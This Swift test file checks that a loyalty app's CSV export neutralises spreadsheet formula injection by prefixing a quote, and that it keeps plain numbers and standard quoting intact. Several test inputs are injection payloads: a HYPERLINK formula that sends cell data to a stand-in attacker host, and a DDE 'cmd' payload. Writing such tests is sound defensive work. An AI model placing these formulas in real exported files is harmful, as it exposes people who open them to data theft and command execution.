import LoyaltyDomain
import LoyaltyStore
import Testing

/// Every cell loyalgate writes to a CSV file goes through `SpreadsheetCSV.field`: what a
/// spreadsheet would run as a formula is neutralised, as OWASP describes for CSV injection.
@Suite struct SpreadsheetCSVTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
        ("+31 6 1234", "\"'+31 6 1234\""),
        ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
        ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
        ("\t=1+2", "\"'\t=1+2\""),
        ("\r=1+2", "\"'\r=1+2\""),
        ("\r\n=1+2", "\"'\r\n=1+2\""),
        ("-", "\"'-\""),
        ("-5x", "\"'-5x\""),
        ("1-5", "1-5"),
    ])
    func aCellASpreadsheetWouldRunGetsAQuoteInFrontAndIsQuoted(cell: String, written: String) {
        #expect(SpreadsheetCSV.field(cell) == written)
    }

    /// Points and amounts of redeems, returns and fees are negative: left as numbers, a
    /// spreadsheet still adds the column up, and a plain number is never a formula.
    @Test(arguments: ["-5", "-12.50", "0", "42", "2990001000018", "12.50"])
    func aPlainNumberIsLeftAsItIs(cell: String) {
        #expect(SpreadsheetCSV.field(cell) == cell)
    }

    @Test func ordinaryCellsKeepRFC4180Quoting() {
        #expect(SpreadsheetCSV.field("Anna") == "Anna")
        #expect(SpreadsheetCSV.field("бул. Витоша 1, ет. 2") == "\"бул. Витоша 1, ет. 2\"")
        #expect(SpreadsheetCSV.field("Mария \"Мими\"") == "\"Mария \"\"Мими\"\"\"")
        #expect(SpreadsheetCSV.line(["1", "=1", "-1"]) == "1,\"'=1\",-1\n")
    }
}
